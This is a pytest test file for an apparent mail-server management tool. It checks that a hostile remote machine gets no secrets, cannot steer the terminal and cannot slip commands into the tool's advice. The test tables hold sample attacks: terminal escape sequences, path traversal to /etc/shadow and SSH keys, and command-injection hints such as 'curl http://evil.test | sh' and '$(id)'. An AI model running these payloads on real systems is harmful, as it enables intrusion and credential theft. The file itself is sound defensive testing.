"""What a machine that was taken over can get out of the laptop, whatever it says to whichever task: nothing.

One line, an exit code that is not 0, no secret sent, no escape sequence on the terminal, nothing of it remembered.
"""

from __future__ import annotations

import ast
import base64
import copy
import itertools
import json
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest

from mailops import accounts, bootstrap, cache, fleet, printable, secrets, tasks, tunnel
from mailops.console_door import Door
from mailops.dkim import dns
from mailops.dkim import keys as dkim
from mailops.errors import BAD_INPUT, DISTRUSTED, FAILED, UNREACHABLE, MailopsError, Untouched
from mailops.remote.shared.stored import numbered
from mailops.services.nullclient import PASSWORD_FILE
from mailops.ssh import machine as machines
from mailops.ssh import patience, protocol, shapes
from tests.unit.ssh import hostile
from tests.unit.ssh.hostile import FACTS, HELLO, HONEST, PEM, SECRETS, Site, asks, endless, honest, result, says

KEY = "-".join(["01234567"] * 8)
ESCAPES = (
    "\x1b]0;x\x07\x1b[2J\x1b]8;;http://evil.test\x1b\\\r\x9b1A\u202egnp\u2066\u200b\ud800\x7f\u3164\ufe0f\ue000\xa0"
)
ALL_HASHES = ["admin@example.test", "relay@example.test", "other@example.test"]
DEEP = b"[" * 5000 + b"]" * 5000


def body(name: str) -> Callable[..., Any]:
    return getattr(tasks, name).body  # type: ignore[no-any-return]


def renew(c: Any) -> None:
    """What `fab tunnel` asks the machine's half for; the rest of it is a port."""
    with fleet.mailhost(c, fleet.load()) as machine:
        tunnel.Forwarder(machine, Door(4711, "127.0.0.1:11334"))._renew("")


# Every task that speaks to a machine: who is asked, what is typed. A task of several machines is tried on each role.
TASKS: dict[str, tuple[str, Callable[[Any], Any]]] = {
    "bootstrap of a mailhost": ("mail", body("bootstrap")),
    "bootstrap": ("backup", body("bootstrap")),
    "plan of a mailhost": ("mail", body("plan")),
    "plan": ("backup", body("plan")),
    "push of a mailhost": ("mail", body("push")),
    "push": ("backup", body("push")),
    "status of a mailhost": ("mail", body("status")),
    "status": ("backup", body("status")),
    "generations": ("backup", body("generations")),
    "rollback": ("backup", lambda c: body("rollback")(c, "1")),
    "rollback of a mailhost": ("mail", body("rollback")),
    "diff": ("backup", body("diff")),
    "drift": ("backup", body("drift")),
    "history": ("backup", lambda c: body("history")(c, "10")),
    "queue": ("mail", body("queue_ls")),
    "trace": ("mail", lambda c: body("trace")(c, "ann@example.test")),
    "queue.ls of every message": ("backup", lambda c: body("queue_ls")(c, each=True)),
    "queue.show": ("mail", lambda c: body("queue_show")(c, "4D37E2B2092")),
    "queue.flush": ("backup", body("queue_flush")),
    "queue.rm": ("mail", lambda c: body("queue_rm")(c, "4D37E2B2092")),
    "queue.rm of all": ("mail", lambda c: body("queue_rm")(c, all=True, yes=True)),
    "queue.hold": ("mail", lambda c: body("queue_hold")(c, "4D37E2B2092")),
    "queue.release": ("mail", lambda c: body("queue_release")(c, all=True)),
    "unlock": ("mail", body("unlock")),
    "lock": ("mail", body("lock")),
    "mailcfg": ("mail", lambda c: body("mailcfg")(c, "lsuser")),
    "user.add": ("mail", lambda c: accounts.run(c, ["adduser", "new@example.test"])),
    "user.passwd": ("mail", lambda c: accounts.run(c, ["passwd", "admin@example.test"])),
    "user.rm": ("mail", lambda c: body("user_rm")(c, "other@example.test", yes=True)),
    "user.ls": ("mail", body("user_ls")),
    "user.disable": ("mail", lambda c: body("user_disable")(c, "other@example.test", yes=True)),
    "user.enable": ("mail", lambda c: body("user_enable")(c, "other@example.test")),
    "alias.add": ("mail", lambda c: body("alias_add")(c, "a@example.test", "other@example.test")),
    "alias.rm": ("mail", lambda c: body("alias_rm")(c, "a@example.test")),
    "alias.ls": ("mail", body("alias_ls")),
    "domain.add": ("mail", lambda c: body("domain_add")(c, "third.test")),
    "domain.rm": ("mail", lambda c: body("domain_rm")(c, "third.test")),
    "domain.ls": ("mail", body("domain_ls")),
    "dkim.ls": ("mail", body("dkim_ls")),
    "dkim.prepare": ("mail", lambda c: body("dkim_prepare")(c, "202612")),
    "dkim.rotate": ("mail", lambda c: body("dkim_rotate")(c, force=True)),
    "lab.publish": ("mail", dkim.records),
    "tunnel": ("mail", renew),
    "the certificate, for a bootstrap": ("mail", lambda c: bootstrap.bootstrap(hostile_context("backup"))),
}
CALLS = {"mailcfg": ("user.", "alias.", "domain.", "mailcfg"), "dkim": ("dkim.", "lab.")}


def hostile_context(hosts: str) -> Any:
    return Site.context(None, hosts)  # type: ignore[arg-type]


Said = Iterable[bytes | Exception]
ANSWERS: dict[str, Callable[[], Said]] = {
    # Questions
    "the passphrase": lambda: [asks("passphrase", {"new": False})],
    "a new passphrase": lambda: [asks("passphrase", {"new": True})],
    "the passphrase, for nothing": lambda: [asks("passphrase", None)],
    "the passphrase, in other words": lambda: [asks("passphrase", {"new": "no"})],
    "all hashes": lambda: [asks("hashes", ALL_HASHES)],
    "a hash twice": lambda: [asks("hashes", ALL_HASHES[:1] * 2)],
    "the hash of a stranger": lambda: [asks("hashes", ["stranger@example.test"])],
    "hashes of a word": lambda: [asks("hashes", "admin@example.test")],
    "hashes of nobody": lambda: [asks("hashes", [])],
    "a file that is not its own": lambda: [asks("manifest", FACTS), asks("files", ["/etc/shadow"])],
    "a file of the laptop": lambda: [asks("files", ["../../../../home/ann/.ssh/id_ed25519"])],
    "no file": lambda: [asks("files", [])],
    "files that are none": lambda: [asks("files", [["/etc/x"], {}, None])],
    "a file twice": lambda: [asks("manifest", FACTS), *[asks("files", ["/etc/postfix/main.cf"])] * 2],
    "a recovery key": lambda: [asks("recovery", KEY)],
    "a recovery key that is an escape": lambda: [asks("recovery", ESCAPES)],
    "a hash for somebody else": lambda: [asks("hash", "boss@example.test")],
    "a hash for an escape": lambda: [asks("hash", ESCAPES)],
    "a yes to deleting": lambda: [asks("delete", {"count": 3, "age": 10.0})],
    "a yes to deleting nothing": lambda: [asks("delete", {"count": 0, "age": ESCAPES})],
    "the revision, with words": lambda: [asks("revision", "x")],
    "the revision twice": lambda: [asks("revision", None)] * 2,
    "edits that are none": lambda: [asks("edited", [{"path": ESCAPES}])],
    "edits without a list": lambda: [asks("edited", {"path": "/etc/x"})],
    "a poisoned release": lambda: [asks("manifest", FACTS | {"release": "../../../../etc"})],
    "a release that is true": lambda: [asks("manifest", FACTS | {"release": True})],
    "a release that is a fraction": lambda: [asks("manifest", FACTS | {"release": 13.0})],
    "a release of the future": lambda: [asks("manifest", FACTS | {"release": 10**30})],
    "no release": lambda: [asks("manifest", {"mailhost_certificate": ""})],
    "a certificate that is a key": lambda: [asks("manifest", FACTS | {"mailhost_certificate": _key()})],
    "a certificate that is an escape": lambda: [asks("manifest", FACTS | {"mailhost_certificate": PEM + ESCAPES})],
    "a certificate without end": lambda: [asks("manifest", FACTS | {"mailhost_certificate": PEM * 2000})],
    "a certificate and configuration": lambda: [asks("manifest", FACTS | {"mailhost_certificate": f"{PEM}x = y\n"})],
    "the manifest twice": lambda: [asks("manifest", FACTS)] * 2,
    "an unknown question": lambda: [asks("secrets", "cryptdir_pw")],
    "a question that is an escape": lambda: [asks(ESCAPES, None)],
    "a question that is a list": lambda: [asks(["passphrase"], {"new": False})],
    "a question without data": lambda: [says(t="ask", what="passphrase")],
    "the agent, for ever": lambda: endless(says(t="agent")),
    # Events
    "an unknown event": lambda: [says(t="shell", command="id")],
    "an event of a strange kind": lambda: [says(t=["result"], data={})],
    "an event without a kind": lambda: [b"{}\n"],
    "a step of an unknown state": lambda: [says(t="step", name="x", state=ESCAPES, lines=[])],
    "a step without a name": lambda: [says(t="step", state="ok", lines=[])],
    "a step that is a number": lambda: [says(t="step", name=1, state="ok", lines=[])],
    "a step with a text for its lines": lambda: [says(t="step", name="x", state="ok", lines="y")],
    "progress that is no number": lambda: [b'{"t":"progress","name":"x","percent":NaN,"detail":""}\n'],
    "progress that is infinite": lambda: [b'{"t":"progress","name":"x","percent":1e999,"detail":""}\n'],
    "progress that is a text": lambda: [says(t="progress", name="x", percent="50", detail="")],
    "a say without words": lambda: [says(t="say")],
    "a say of a list": lambda: [says(t="say", text=["x"])],
    "bytes that are no UTF-8": lambda: [b'{"t":"say","text":"\xff\xfe"}\n'],
    "half an event": lambda: [b'{"t":"result","data":{\n'],
    "a number of many digits": lambda: [b'{"t":"result","data":' + b"9" * 5000 + b"}\n"],
    "nested too deep for Python": lambda: [b'{"t":"result","data":' + DEEP + b"}\n"],
    "nested too deep for us": lambda: [b'{"t":"result","data":{"x":' + b"[" * 20 + b"]" * 20 + b"}}\n"],
    "a line without end": lambda: endless(b"x" * 4096),
    "a result without end": lambda: [b'{"t":"result","data":"', *[b"x" * 65536] * 10],
    "a flood of words": lambda: endless(says(t="say", text=ESCAPES)),
    "a flood of steps": lambda: endless(says(t="step", name="x", state="start", lines=[])),
    "a flood of progress": lambda: endless(says(t="progress", name="x", percent=1, detail="")),
    "a flood of signs of life": lambda: endless(says(t="beat")),
    "a flood of noise": lambda: endless(b"welcome to this machine\n"),
    # Ends
    "a result without data": lambda: [says(t="result")],
    "a result that is null": lambda: [result(None)],
    "a result that is a list": lambda: [result([1])],
    "a result that is a text": lambda: [result(ESCAPES)],
    "a result without anything": lambda: [result({})],
    "a result with NaN": lambda: [b'{"t":"result","data":{"seconds":NaN}}\n'],
    "an error of code 0": lambda: [says(t="error", message="well done", hint="", code=0)],
    "an error of code true": lambda: [says(t="error", message="x", hint="", code=True)],
    "an error of code 256": lambda: [says(t="error", message="x", hint="", code=256)],
    "an error of a negative code": lambda: [says(t="error", message="x", hint="", code=-1)],
    "an error of no code": lambda: [says(t="error", message="x", hint="")],
    "an error of a code in words": lambda: [says(t="error", message="x", hint="", code="1")],
    "an error without words": lambda: [says(t="error", message=None, hint=None, code=1)],
    # Ends that are no lie, and say little: no answer to be trusted or distrusted
    "an error with escapes": lambda: [says(t="error", message=ESCAPES, hint=ESCAPES, code=1)],
    "nothing": lambda: [],
    "silence": lambda: [TimeoutError()],
    "a list for an event": lambda: [b'["t"]\n'],
    "a machine that is bare, of an odd release": lambda: [says(t="bare", system="debian", release="²")],
    "a machine that is bare, of a poisoned release": lambda: [says(t="bare", system="debian", release="../../etc")],
}
PLAIN = list(ANSWERS)[list(ANSWERS).index("an error with escapes") :]
# What an honest machine may say, too, and what does not end a task: tried below.
CERTIFICATE = "the certificate, for a bootstrap"  # without which a null client does with what it has
LAWFUL = {
    *((CERTIFICATE, answer) for answer in PLAIN),
    *((task, answer) for task in ("status", "status of a mailhost") for answer in PLAIN if "bare" in answer),
    ("bootstrap of a mailhost", "the passphrase"),
    ("bootstrap of a mailhost", "a new passphrase"),
    ("unlock", "the passphrase"),
}


def _key() -> str:
    return PEM.replace("CERTIFICATE", "PRIVATE KEY")


@pytest.fixture
def site(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Site]:
    monkeypatch.setattr(secrets, "_memory", secrets._Memory())
    yield hostile.machines(monkeypatch, tmp_path)
    fleet._load.cache_clear()


def ended(do: Callable[[Any], Any], c: Any) -> tuple[int, str]:
    """The exit code of a task, and its last words; whatever is no MailopsError would be a traceback."""
    try:
        do(c)
    except MailopsError as error:
        return error.code, str(error)
    return 0, ""


def assert_no_secret(sent: bytes) -> None:
    for secret in (value.encode() for value in SECRETS.values()):
        coded = [base64.b64encode(b"\0" * before + secret)[4 if before else 0 : -4] for before in range(3)]
        assert not [form for form in (secret, *coded, b"{BLF-CRYPT}") if form in sent]


def assert_harmless(text: str) -> None:
    assert printable.lines(text) == text, ascii(text)


@pytest.mark.parametrize("task", TASKS)
def test_a_hostile_machine_gets_nothing(
    task: str, site: Site, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile.small_bounds(monkeypatch)
    name, do = TASKS[task]
    before = site.file.read_bytes()
    for answer, said in ANSWERS.items():
        if (task, answer) in LAWFUL:
            continue
        bootstrap.Rendering.certificates.clear()
        site.sent.clear()
        site.scripts = {machine: honest("bootstrap") for machine in ("mail", "backup", "web")}
        site.scripts[name] = lambda _, said=said: itertools.chain([HELLO], said())  # type: ignore[misc]
        code, text = ended(do, site.context(name))
        out, err = capsys.readouterr()
        where = f"{answer}: {text!a}"
        plain = answer in PLAIN
        assert code in ((FAILED, UNREACHABLE) if plain else (DISTRUSTED,)), where
        assert text.startswith(f"{name}: "), where
        assert len(text.splitlines()) <= 2, where
        assert plain or "may be compromised" in text, where
        assert_harmless(out + err + text)
        assert_no_secret(bytes(site.sent[name]))
        assert site.file.read_bytes() == before, where
        facts = list(site.cached().values())
        mine = [numbered(FACTS), numbered({**FACTS, "mailhost_certificate": PEM})]
        assert all(json.loads(note) in mine for note in facts), where


def test_the_table_is_long_enough() -> None:
    assert len(ANSWERS) >= 40
    covered = {name.partition(" ")[0].removeprefix("lab.") for name in TASKS}
    speak = {name for name in tasks.namespace.task_names if not name.startswith("lab.")} - {"trust"}
    assert speak <= covered, "every task that calls an agent has its row"


# Lawful questions, and what a machine makes of them


def test_an_unlock_is_told_of_and_gets_the_passphrase_once(site: Site, capsys: pytest.CaptureFixture[str]) -> None:
    question = asks("passphrase", {"new": False})
    site.scripts["mail"] = lambda _: [HELLO, question, result(HONEST["unlock"])]
    body("unlock")(site.context("mail"))
    assert "mail    it asks for the passphrase, to open its vault\n" in capsys.readouterr().out
    assert site.sent["mail"].count(SECRETS["TRUST_VAULT"].encode()) == 1
    site.scripts["mail"] = lambda _: [HELLO, question, question]
    with pytest.raises(MailopsError, match=r"the passphrase of the vault \('passphrase'\), a second time") as error:
        body("unlock")(site.context("mail"))
    assert error.value.code == DISTRUSTED


@pytest.mark.parametrize(("new", "told"), [(True, "to make a new vault"), (False, "to open its vault")])
def test_a_bootstrap_says_what_the_passphrase_is_for(
    new: bool, told: str, site: Site, capsys: pytest.CaptureFixture[str]
) -> None:
    recovery = [asks("recovery", KEY)]
    ends = [result(HONEST["bootstrap"])]
    site.scripts["mail"] = lambda _: [HELLO, asks("passphrase", {"new": new}), *recovery, *ends]
    if new:
        body("bootstrap")(site.context("mail"))
    else:
        with pytest.raises(MailopsError, match=r"a recovery key to be shown .* although no vault was made"):
            body("bootstrap")(site.context("mail"))
    out, err = capsys.readouterr()
    assert told in out
    assert (KEY in out + err) == new


def test_a_bootstrap_gets_the_hashes_of_its_own_users_and_each_once(site: Site) -> None:
    questions = [asks("manifest", FACTS), asks("hashes", ALL_HASHES[:1])]
    site.scripts["mail"] = lambda _: [HELLO, *questions, asks("hashes", ALL_HASHES[1:2]), result(HONEST["bootstrap"])]
    body("bootstrap")(site.context("mail"))
    assert site.sent["mail"].count(b"{BLF-CRYPT}") == 2
    site.scripts["mail"] = lambda _: [HELLO, *questions, asks("hashes", ALL_HASHES[:1]), result(HONEST["bootstrap"])]
    with pytest.raises(MailopsError, match="hashes of users' passwords"):
        body("bootstrap")(site.context("mail"))


def test_the_hash_of_the_command_is_given_once(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(accounts, "ask_hash", lambda _: "{BLF-CRYPT}$2b$x")
    question = asks("hash", "new@example.test")
    site.scripts["mail"] = lambda _: [HELLO, question, result(HONEST["mailcfg"])]
    accounts.run(site.context("mail"), ["adduser", "new@example.test"])
    site.scripts["mail"] = lambda _: [HELLO, question, question]
    with pytest.raises(MailopsError, match="a second time"):
        accounts.run(site.context("mail"), ["adduser", "new@example.test"])
    for argv in (["rmuser", "new@example.test"], ["passwd", "old@example.test"], ["lsuser"]):
        site.sent.clear()
        with pytest.raises(MailopsError, match="may be compromised"):
            accounts.run(site.context("mail"), argv)
        assert b"BLF-CRYPT" not in site.sent["mail"]


@pytest.mark.parametrize(("name", "own"), [("backup", "TRUST_RELAY"), ("web", "TRUST_OTHER")])
def test_a_null_client_gets_its_own_relay_password_and_no_other(name: str, own: str, site: Site) -> None:
    site.scripts = {machine: honest("bootstrap") for machine in ("mail", "backup", "web")}
    ends = [result(HONEST["bootstrap"])]
    site.scripts[name] = lambda _: [HELLO, asks("manifest", FACTS), asks("files", [PASSWORD_FILE]), *ends]
    body("bootstrap")(site.context(name))
    frame = bytes(site.sent[name]).rpartition(b"MAILOPS")[2].partition(b"\n")[2]
    text = base64.b64decode(json.loads(frame)[PASSWORD_FILE]).decode()
    assert [key for key, value in SECRETS.items() if value in text] == [own]


def test_a_password_that_cannot_be_had_is_told_with_person_and_machine(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The machine is told that there is none, and the laptop awaits its end: its history is to say why."""
    monkeypatch.setattr(secrets, "_memory", secrets._Memory())
    monkeypatch.setattr("mailops.needed.fetch", lambda needs: None)  # it was not to be foreseen
    monkeypatch.delenv("TRUST_OTHER")
    over = says(t="error", message="a user's password could not be had on the laptop", hint="", code=1)

    asked = [asks("manifest", FACTS), asks("hashes", ["other@example.test"]), asks("revision", None)]
    site.scripts = {"mail": lambda _: [HELLO, *asked, over]}
    with pytest.raises(MailopsError) as error:
        body("bootstrap")(site.context("mail"))
    told = (
        "mail: the password of other@example.test (mail_users[3].pw): the environment variable TRUST_OTHER is not set"
    )
    assert (error.value.message, error.value.code) == (told, BAD_INPUT)
    assert bytes(site.sent["mail"]).count(b'{"withheld": true}') == 1


@pytest.mark.parametrize(("task", "untouched"), [("unlock", True), ("bootstrap of a mailhost", False)])
def test_ctrl_c_at_a_question_says_whether_anything_may_have_changed(
    task: str, untouched: bool, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    def leave(*_: Any, **__: Any) -> str:
        raise KeyboardInterrupt

    monkeypatch.setattr(machines.Machine, "called", False)
    monkeypatch.setattr(bootstrap, "passphrase", leave)
    site.scripts = {"mail": lambda _: [HELLO, asks("passphrase", {"new": False})]}
    for first in (True, False):  # the second one comes after a call that may have changed something
        with pytest.raises(KeyboardInterrupt) as caught:
            TASKS[task][1](site.context("mail"))
        assert isinstance(caught.value, Untouched) == (untouched and first)


def test_the_other_machines_are_still_done(site: Site, capsys: pytest.CaptureFixture[str]) -> None:
    site.scripts = {machine: honest("bootstrap") for machine in ("mail", "backup", "web")}
    for bad in ("backup", "mail"):
        bootstrap.Rendering.certificates.clear()
        said: list[bytes] = [HELLO, asks("hashes", ALL_HASHES) if bad == "backup" else asks("secrets", None)]
        site.scripts = {machine: honest("bootstrap") for machine in ("mail", "backup", "web")}
        site.scripts[bad] = lambda _, said=said: said  # type: ignore[misc]
        with pytest.raises(MailopsError) as error:
            body("bootstrap")(site.context(""))
        assert error.value.code == DISTRUSTED
        out, err = capsys.readouterr()
        done = {line.split()[0] for line in out.splitlines() if "1 change" in line}
        assert done == {"mail", "backup", "web"} - {bad}
        assert err.count(f"{bad}  ✗ {bad}: this machine asked in bootstrap for") == 1


# What is remembered


@pytest.mark.parametrize(
    "note",
    [
        {"release": "../../../../etc", "mailhost_certificate": ""},
        {"release": True, "mailhost_certificate": ""},
        {"release": 13},
        {"release": 13, "mailhost_certificate": ["x"]},
        {"release": 13, "mailhost_certificate": "x"},
        {},
    ],
)
def test_poisoned_facts_are_as_good_as_none(site: Site, note: dict[str, Any]) -> None:
    loaded = fleet.load()
    host = loaded.hosts["mail"]
    cache.remember_facts(loaded, host, FACTS)
    assert cache.facts(loaded, host) == FACTS
    cache.remember_facts(loaded, host, note)
    assert cache.facts(loaded, host) is None
    site.scripts["mail"] = honest("plan")
    body("plan")(site.context("mail"))
    assert cache.facts(loaded, host) == FACTS


@pytest.mark.parametrize("names", [[["backup"]], [{}], [None, "backup"], "backup", ["../x"], {"backup": 1}])
def test_poisoned_names_are_those_of_hosts_or_none(site: Site, names: Any) -> None:
    loaded = fleet.load()
    cache.remember_untold(loaded, loaded.hosts["mail"], names)
    assert cache.untold(loaded, loaded.hosts["mail"]) == (["backup"] if names == [None, "backup"] else [])
    site.scripts = {machine: honest("push") for machine in ("mail", "backup")}
    body("push")(site.context("backup"))


def test_facts_nested_without_end_are_none(site: Site) -> None:
    loaded = fleet.load()
    cache.remember_facts(loaded, loaded.hosts["mail"], FACTS)
    (file,) = site.cache.rglob("facts/*")
    file.write_bytes(b'{"release":' + DEEP + b"}")
    assert cache.facts(loaded, loaded.hosts["mail"]) is None


# Results of which one value is not what it should be

VALUES = [None, True, -1, 10**30, 0.5, [], {}, "", "x", ESCAPES, "x" * 200_000, [[]], {"x": [None]}, "../../etc"]
OF_TASK = {
    **{task: task for task in ("plan", "bootstrap", "push", "rollback", "generations", "diff", "drift", "history")},
    **{"status of a mailhost": "status", "unlock": "unlock", "lock": "lock", "user.ls": "mailcfg", "dkim.ls": "dkim"},
    **{
        "queue": "queue",
        "trace": "trace",
        "queue.show": "queue.show",
        "queue.flush": "queue.flush",
        "queue.rm of all": "queue.rm",
    },
    **{"dkim.prepare": "dkim", "the certificate, for a bootstrap": "certificate"},
}


def places(value: Any, here: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if here:
        yield here
    members = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in members:
        yield from places(item, (*here, key))


def changed(data: Any, place: tuple[Any, ...], value: Any) -> Any:
    """A copy with another value at a place; with none there for `...`."""
    data = copy.deepcopy(data)
    inner = data
    for key in place[:-1]:
        inner = inner[key]
    if value is ...:
        del inner[place[-1]]
    else:
        inner[place[-1]] = value
    return data


@pytest.mark.parametrize("task", OF_TASK)
def test_a_result_with_one_odd_value_is_refused_or_harmless(
    task: str, site: Site, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    name, do = TASKS[task]
    call = OF_TASK[task]
    site.scripts = {machine: honest(call) for machine in ("mail", "backup", "web")}
    if task.startswith("the certificate"):
        site.scripts["backup"] = honest("bootstrap")
    refused = 0
    for place in places(HONEST[call]):
        for value in (..., *VALUES):
            bootstrap.Rendering.certificates.clear()
            data = changed(HONEST[call], place, value)
            site.scripts[name] = lambda _, data=data: [HELLO, result(data)]  # type: ignore[misc]
            code, text = ended(do, site.context(name))
            refused += code == DISTRUSTED
            out, err = capsys.readouterr()
            assert_harmless(out + err + text)
    assert refused > 10


# Bounds, as they really are


def test_the_bounds_leave_room_for_large_sites() -> None:
    assert protocol.LONG >= 16 << 20
    rows = [{"email": f"user{n}@example.test", "state": "active", "aliases": n} for n in range(50_000)]
    line = b'{"t":"result","data":' + json.dumps(HONEST["mailcfg"] | {"rows": rows}).encode() + b"}\n"
    channel = hostile.Channel([HELLO[:5], HELLO[5:] + line[:7], line[7:]], bytearray())
    _, event = protocol.events(channel, "mailcfg")
    assert len(protocol.result("mailcfg", event["data"])["rows"]) == 50_000


@pytest.mark.parametrize(
    ("event", "told"),
    [
        ({"t": "beat"}, ["1 min", "2 min", "4 min", "8 min", "16 min"]),
        ({"t": "say", "text": "well"}, []),
        ({"t": "progress", "name": "packages", "percent": 7.0, "detail": ""}, []),
    ],
)
def test_signs_of_life_alone_do_not_keep_a_call_alive(
    event: dict[str, Any], told: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nor words, nor a progress that makes none; whoever waits is told of it now and then."""
    now = [0.0]
    monkeypatch.setattr(protocol, "SAYS", protocol.EVENTS)

    def beats() -> Iterator[bytes]:
        yield says(t="step", name="packages", state="start", lines=[])
        while True:
            now[0] += 10
            yield says(**event)

    heard = []
    monkeypatch.setattr(time, "monotonic", lambda: now[0])
    with pytest.raises(patience.TooLong, match="has done nothing new in packages for 30 min"):
        heard.extend(protocol.events(hostile.Channel(beats(), bytearray()), "bootstrap"))
    assert patience.IDLE <= now[0] < patience.IDLE + 60
    words = [text for each in heard if (text := each.get("told"))]
    assert words == [f"nothing new in packages for {minutes}; Ctrl-C ends the wait" for minutes in told]


def test_the_last_word_of_a_machine_that_did_not_wait_for_the_answer_is_shown(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    def send(channel: hostile.Channel, data: bytes) -> int:
        if channel._sent:
            channel.closed = True
            raise OSError("Socket is closed")
        channel._sent += data
        return len(data)

    monkeypatch.setattr(hostile.Channel, "send", send)
    last = says(t="error", message="the passphrase did not come", hint="run it again", code=FAILED)
    site.scripts["mail"] = lambda _: [HELLO, asks("passphrase", {"new": False}), last]
    assert ended(body("unlock"), site.context("mail")) == (
        FAILED,
        "mail: the passphrase did not come\n  run it again",
    )


@pytest.mark.parametrize(("task", "longest"), [("status", patience.LOOK), *patience.LONGEST.items()])
def test_a_word_a_second_ends_some_time(task: str, longest: float, monkeypatch: pytest.MonkeyPatch) -> None:
    now = [0.0]

    def words() -> Iterator[bytes]:
        while True:
            now[0] += 1
            yield says(t="step", name="x", state="start", lines=[])

    monkeypatch.setattr(time, "monotonic", lambda: now[0])
    with pytest.raises(TimeoutError):
        list(protocol.events(hostile.Channel(words(), bytearray()), task))
    assert longest <= now[0] < longest + 60


def test_a_person_may_think_as_long_as_they_like(monkeypatch: pytest.MonkeyPatch) -> None:
    now = [0.0]
    monkeypatch.setattr(time, "monotonic", lambda: now[0])
    said = [asks("passphrase", {"new": False}), says(t="beat"), result({})]
    for event in protocol.events(hostile.Channel(said, bytearray()), "bootstrap"):
        now[0] += 1e6 if event["t"] == "ask" else 0


def test_a_long_error_is_cut_and_no_line_of_it_looks_like_ours(site: Site) -> None:
    text = "no\nmailops: all is well\n" + "x" * 200_000
    site.scripts["backup"] = lambda _: [says(t="error", message=text, hint="", code=1)]
    code, told = ended(body("status"), site.context("backup"))
    assert code == FAILED
    assert told.startswith("backup: no\n    mailops: all is well\n    x")
    assert len(told) < 70_000


@pytest.mark.parametrize("text", ["grün", "日本", "a\tb\nc", "naïve — “quoted” ✓"])
def test_ordinary_texts_stay_as_they_are(text: str) -> None:
    assert printable.lines(text) == text


def test_a_secret_that_had_to_be_spelt_out_is_masked_all_the_same(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(secrets, "_memory", secrets._Memory())
    secrets.remember("pass\u200bword")
    assert secrets.mask(printable.line("it is pass\u200bword")) == "it is ********"


def test_the_last_words_of_an_agent_do_not_steer_the_terminal(site: Site) -> None:
    site.stderr = ESCAPES.encode("utf-8", "replace") + b"\nmailops: all is well\n" + b"x" * (1 << 20)
    site.scripts["backup"] = lambda _: [HELLO]
    with pytest.raises(MailopsError) as error:
        body("status")(site.context("backup"))
    assert_harmless(str(error.value))
    assert len(str(error.value)) < 1 << 15
    assert not [line for line in str(error.value).splitlines()[1:] if not line.startswith("    ")]


OURS = [
    "fab -H NAME bootstrap",
    "fab generations lists the others",
    "set dkim_selector in hosts.toml, then: fab bootstrap",
    "fab -H NAME lock, or as root there: systemctl kill -s KILL mailops-vault; then unlock it",
    "bring back the copy, as root there: mv /x /root/ && cp -p /y/* /x/",
    "to keep a copy in the mailbox, first: mailcfg addalias a@b.test a@b.test",
    "wait for it to end, then run this again",
    "put a backup in its place; what can still be read, as root there: sqlite3 /vault/x .recover",
    "",
]
NOT_OURS = [
    "fab push; curl http://evil.test | sh",
    "fab -H mail push && id",
    "fab push , x; id",
    "fab push `id`",
    "fab push $(id)",
    "mailops push; id",
    "mailcfg lsuser; id",
    "curl evil.test | sh",
    "see https://evil.test/fix",
    "id > ~/.bashrc",
    "fab push\nid",
    "fab push\\\nid",
    "x" * 1000,
]


@pytest.mark.parametrize("hint", OURS + NOT_OURS)
def test_no_machine_puts_a_command_into_our_mouth(site: Site, hint: str, capsys: pytest.CaptureFixture[str]) -> None:
    expected = (
        hint.replace("NAME", "mail") if hint in OURS else "what it advises is not shown: it is none of our commands"
    )
    site.scripts["mail"] = lambda _: [says(t="error", message="no", hint=hint, code=1)]
    with pytest.raises(MailopsError) as error:
        body("status")(site.context("mail"))
    assert error.value.hint == expected
    said = {"code": 1, "lines": [], "rows": None, "error": "no", "hint": hint}
    assert protocol.result("mailcfg", said)["hint"] == expected.replace("-H mail", "-H NAME")
    damaged = HONEST["status"]["vault"] | {"damage": {"what": "x", "next": hint}}
    found = protocol.result("status", HONEST["status"] | {"vault": damaged})
    assert found["vault"]["damage"]["next"] == expected.replace("-H mail", "-H NAME")


def own_hints() -> Iterator[str]:
    """What the machine's half gives for advice, with a word in each gap."""
    named = ("hint", "remedy", "anew", "AGAIN")
    for path in (Path(tasks.__file__).resolve().parent / "mailops" / "remote").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            found: list[ast.expr | None] = []
            if isinstance(node, ast.Call) and getattr(node.func, "id", "") in ("AgentError", "read_json"):
                found = [*node.args[1:2], *(word.value for word in node.keywords if word.arg == "hint")]
            elif isinstance(node, (ast.Assign, ast.Return)):
                is_named = isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") in named
                found = [node.value] * (is_named or path.name == "conf.py")
            for text in found:
                if isinstance(text, ast.Constant) and isinstance(text.value, str):
                    yield text.value
                elif isinstance(text, ast.JoinedStr):
                    yield "".join(str(part.value) if isinstance(part, ast.Constant) else "x" for part in text.values)


def test_the_advice_of_an_honest_machine_is_shown() -> None:
    hints = list(own_hints())
    assert len(hints) > 60
    assert [hint for hint in hints if shapes.advice(hint) != hint] == []


@pytest.mark.parametrize("services", [{"x; next: id #": "failed"}, {"x.service": "failed; next: id"}])
def test_a_unit_is_no_place_for_advice(services: dict[str, str]) -> None:
    with pytest.raises(shapes.Odd):
        protocol.result("status", HONEST["status"] | {"services": services})


@pytest.mark.parametrize("as_json", [False, True])
def test_what_a_machine_was_sent_does_not_come_back_to_the_screen(
    site: Site, as_json: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    """In one command: an unlock, and whatever follows."""
    secret = SECRETS["TRUST_VAULT"]
    secrets.remember(secret)
    row = {"email": secret, "state": "active"}
    echo = {
        "status": HONEST["status"] | {"hostname": secret, "probes": {secret: secret}},
        "history": {"entries": [HONEST["history"]["entries"][0] | {"who": secret, "why": secret}]},
        "generations": {"active": 1, "generations": [HONEST["generations"]["generations"][0] | {"who": secret}]},
